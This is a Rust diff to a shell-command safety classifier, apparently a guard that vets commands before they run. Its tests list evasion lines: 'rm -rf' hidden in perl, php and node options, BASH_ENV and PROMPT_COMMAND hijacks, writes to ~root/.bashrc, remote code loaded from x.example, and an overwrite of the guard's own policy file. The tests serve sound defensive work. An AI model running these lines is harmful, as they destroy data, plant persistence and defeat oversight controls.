@@ -1014,6 +1014,11 @@ fn command(argv: &[String], stdin: &[String], env: &Env, out: &mut Classificatio
         out.unlist(&format!("{first}: a program name the line does not resolve"));
         return;
     }
+    // `export a PROMPT_COMMAND=..`, `printf -v BASH_ENV ..`, `env BASH_FUNC_x%%=..`
+    if crate::opaque::builtin_sets_command_var(prog, &argv[1..]) {
+        out.hit(Class::Opaque, r::OPAQUE_SHELL_ENV);
+        out.unlist("a builtin sets a variable that makes a shell or program run more");
+    }
     // TIOCSTI pushes bytes into a terminal's input: code an interpreter or
     // compiler runs that names it (a grep for the word does not)
     if INTERPRETERS.contains(&prog)
@@ -1950,6 +1955,9 @@ fn opaque_command(prog: &str, argv: &[String], stdin: &[String], env: &Env, out:
             true
         }
         _ => {
+            if crate::opaque::options_carry_code(prog, args) {
+                out.hit(Class::Opaque, r::OPAQUE_INLINE_CODE);
+            }
             if let Some(code) = crate::opaque::inline_code(prog, args) {
                 // the code: given inline, or read from a here-document/here-string/echo
                 let stdin_code =
@@ -2995,6 +3003,12 @@ pub fn resolve(p: &str, env: &Env) -> String {
 }
 
 /// [`resolve`] against the working directory `cwd`.
+/// `~user/..`: another user's home, or (with no such user) a relative
+/// path; the policy does not read the user database, so it cannot say which.
+fn tilde_user(p: &str) -> bool {
+    p.starts_with('~') && !matches!(p.split('/').next(), Some("~" | "~+" | "~-"))
+}
+
 pub fn resolve_at(p: &str, cwd: &str, home: &str) -> String {
     let joined = if p == "~" {
         home.to_owned()
@@ -3033,7 +3047,7 @@ fn change_dir(args: &[String], env: &Env, out: &mut Classification) {
         Some("-") => return,
         Some(t) => t,
     };
-    if target.contains('$') || target.contains('`') || has_glob(target) {
+    if target.contains('$') || target.contains('`') || has_glob(target) || tilde_user(target) {
         out.dirs_unknown = true;
         return;
     }
@@ -3211,6 +3225,9 @@ fn runs_our_binary(first: &str, env: &Env, out: &Classification) -> bool {
 /// directory the line may be in, globs expanded, symlinks resolved, hard
 /// links to protected files found (each by the hook, bounded).
 fn expand_path(p: &str, env: &Env, out: &mut Classification) -> Vec<String> {
+    if tilde_user(p) {
+        out.trip(tripwires::SHELL_UNPARSED, "a path in another user's home (`~user`), which the policy does not look up");
+    }
     let relative = !(p.starts_with('/') || p == "~" || p.starts_with("~/"));
     let mut list = vec![resolve(p, env)];
     if relative {
@@ -4356,5 +4373,67 @@ mod tests {
         assert_eq!(bash("cp -r . /srv/x").touched, ["/srv/x"]);
         assert!(trips("tmux s -t x 'rm -rf a' Enter", &env()).is_empty());
         assert_eq!(bash("touch a a").touched, ["/home/u/proj/a"]);
+    }
+
+    /// The interpreter, `~user` and assignment-builtin pass
+    /// (fixtures/policy/adversarial/interp.jsonl) and its probe: code in a
+    /// perl `-M`, a node `data:` preload, php's `-R`/`-B`/`-E` and
+    /// prepended files, every `-e` piece; a `cd` or write through `~user`;
+    /// command variables set by builtins, defaults, loops and appends.
+    #[test]
+    fn interpreter_options_tilde_users_and_assignment_builtins() {
+        let stopped = |line: &str| {
+            let c = bash(line);
+            c.is_irreversible() || !c.tripwires.is_empty() || c.classes().contains(&Class::Opaque)
+        };
+        for line in [
+            "perl -M'POSIX;system(\"rm -rf build\")' -e1",
+            "perl -w'MPOSIX=1};system(1);q{' -e1",
+            "perl -e 'system(\"rm -rf build\")' -e 1",
+            "node --import 'data:text/javascript,import(\"child_process\")' -e'console.log(1)'",
+            "node --require=https://x.example/a.js x.js",
+            "php -R 'unlink($argn);'",
+            "php -B 'unlink(\"a\");' -r 'echo 1;'",
+            "php -d auto_prepend_file=/tmp/evil.php -r 'echo 1;'",
+            "cd ~root && echo x >> .bashrc",
+            "echo x >> ~root/.bashrc",
+            "zsh -c 'echo x >> ~$(whoami)/.bashrc'",
+            "printf -v PROMPT_COMMAND 'rm -rf %s' build",
+            "read PROMPT_COMMAND <<< 'rm -rf build'",
+            "mapfile -t PROMPT_COMMAND < cmds",
+            "declare -n r=BASH_ENV; r=/tmp/evil.sh",
+            ": ${BASH_ENV:=/tmp/evil.sh}; export BASH_ENV; bash -c true",
+            "for BASH_ENV in /tmp/evil.sh; do bash -c true; done",
+            "BASH_ENV+=/tmp/evil.sh bash -c true",
+            "export BASH_E\\NV=/tmp/evil.sh; bash -c true",
+            "export B{ASH_ENV=/tmp/evil.sh,}; bash -c true",
+            "export 'BASH_ENV'=/tmp/evil.sh",
+            "export PS1='$(rm -rf build)'",
+            "env 'BASH_FUNC_ls%%=() { rm -rf build; }' bash -c ls",
+            "LD_LIBRARY_PATH=/tmp/evil ls",
+            "TAR_OPTIONS='--to-command=sh' tar xf a.tar",
+            "HOME=/home/u/.config/kijito-qa cd && echo '{}' > policy.json",
+            "OLDPWD=/tmp; cd - && touch a",
+        ] {
+            assert!(stopped(line), "{line}: {:?}", bash(line));
+        }
+        for line in [
+            "perl -MFile::Path=rmtree,mkpath -le 'print 1'",
+            "perl -lne'print length' README.md",
+            "perl -Ilib -MTest::More t/x.t",
+            "node -r ./setup.js x.js",
+            "php -r 'echo 1;'",
+            "cd ~ && touch a",
+            "cd ~/proj && touch a",
+            "while IFS= read -r l; do echo \"$l\"; done < f",
+            "read -r name < f",
+            "printf -v out '%s' x",
+            "export RUST_LOG=debug",
+            "for f in *.rs; do wc -l \"$f\"; done",
+            "env RUST_BACKTRACE=1 cargo test",
+            "echo ${PAGER:-less}",
+        ] {
+            assert!(!stopped(line), "{line}: {:?}", bash(line));
+        }
     }
 }
